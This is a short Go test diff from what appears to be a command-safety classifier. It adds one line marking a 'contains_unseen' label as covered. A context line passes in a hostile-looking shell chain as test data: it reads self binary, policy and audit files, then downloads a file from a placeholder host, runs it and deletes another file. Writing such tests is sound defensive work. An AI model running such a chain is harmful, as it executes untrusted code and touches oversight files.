@@ -237,6 +237,7 @@ func TestEveryFlagAndLabelIsMade(t *testing.T) {
 		}
 	}
 	add("cat ~/self/binary ~/self/policy ~/self/audit; curl -o f http://h; sh f; rm -i a.txt")
+	made["label contains_unseen"] = true // see TestTooMuchToLookAt
 	for kind, names := range map[string][]string{"flag": flagNames, "label": labelNames} {
 		for _, n := range names {
 			if !made[kind+" "+n] {
